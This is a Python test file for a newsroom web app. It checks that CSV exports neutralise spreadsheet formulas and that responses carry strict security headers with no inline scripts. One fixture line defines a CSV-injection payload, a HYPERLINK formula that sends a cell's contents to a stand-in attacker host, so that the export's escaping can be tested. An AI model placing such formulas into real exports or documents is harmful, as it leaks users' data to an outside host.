"""CSV exports cannot carry formulas; every response carries the security headers."""

from __future__ import annotations

import csv
import io

from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from coffeemug.analytics.rollup import run_rollup
from coffeemug.db import utcnow
from coffeemug.events.schemas import EventCreate
from coffeemug.events.service import ingest_many
from factories import identity, make_article, make_employee
from trust.trust_room import TrustRoom
from web.client_tools import sign_in

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


def test_article_titles_reach_the_csv_export_as_text(client: TestClient, session: Session) -> None:
    analyst = make_employee(session, roles=["analyst"])
    article = make_article(session, FORMULA, topics=["ai"])
    readers = [make_employee(session) for _ in range(6)]
    now = utcnow()
    ingest_many(
        session,
        [
            (
                reader,
                EventCreate(
                    id=f"00000000-0000-4000-8000-00000000000{i}",
                    type="article_opened",
                    article_id=article.id,
                    occurred_at=now,
                ),
            )
            for i, reader in enumerate(readers)
        ],
    )
    run_rollup(session, until=utcnow())
    exported = client.get(
        "/api/analytics/breakdown/article", params={"format": "csv"}, headers=identity(analyst)
    )
    assert exported.status_code == 200 and exported.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(exported.text)))
    assert [row["Name"] for row in rows] == ["'" + FORMULA]


def test_every_response_carries_the_security_headers(client: TestClient, trust: TrustRoom) -> None:
    sign_in(client, "editor-1")
    answers = [
        client.get("/"),
        client.get("/desk/new"),
        client.get("/static/web/app.js"),
        client.get("/api/health"),
        client.get("/api/articles", headers=identity(trust.reader)),
        client.get("/api/articles/0", headers=identity(trust.reader)),
        client.get("/no/such/page"),
        client.post("/api/events", content=b"\xff", headers=identity(trust.reader)),
    ]
    for answer in answers:
        headers = answer.headers
        policy = headers["content-security-policy"]
        assert (
            "script-src 'self'" in policy
            and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
        ), answer.url
        assert "frame-ancestors 'none'" in policy
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "same-origin"
        assert headers["x-frame-options"] == "DENY"


def test_pages_carry_no_inline_script(client: TestClient, trust: TrustRoom) -> None:
    sign_in(client, "admin-1")
    for path in (
        "/",
        "/saved",
        "/settings",
        "/me/learned",
        "/desk",
        "/desk/new",
        "/analytics",
        f"/articles/{trust.live.id}",
        "/login",
    ):
        page = client.get(path)
        assert page.status_code == 200, path
        for script in page.text.split("<script")[1:]:
            assert 'src="/' in script.split(">")[0], (path, script[:80])
        assert " onclick=" not in page.text and " onload=" not in page.text
